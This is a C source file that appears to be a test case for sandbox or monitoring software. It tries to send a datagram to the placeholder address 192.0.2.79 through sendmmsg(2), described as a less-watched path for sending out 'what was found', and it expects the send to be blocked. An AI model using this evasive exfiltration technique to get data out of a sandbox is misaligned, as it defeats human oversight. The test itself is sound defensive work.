/* Many datagrams by one call. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "attempts", .gain = "what was found, sent by a call that is looked at less often",
       .source = "sendmmsg(2)", .event = "network.blocked", .with = "address=192.0.2.79",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	struct sockaddr_in a = at4("192.0.2.79", 9999);
	struct iovec iov = {(char *)(uintptr_t) "x", 1};
	struct mmsghdr m = {.msg_hdr = {.msg_name = &a,
					.msg_namelen = sizeof(a),
					.msg_iov = &iov,
					.msg_iovlen = 1}};
	int fd = socket_soon(AF_INET, SOCK_DGRAM);

	return fd < 0 ? -1 : sendmmsg(fd, &m, 1, 0);
}
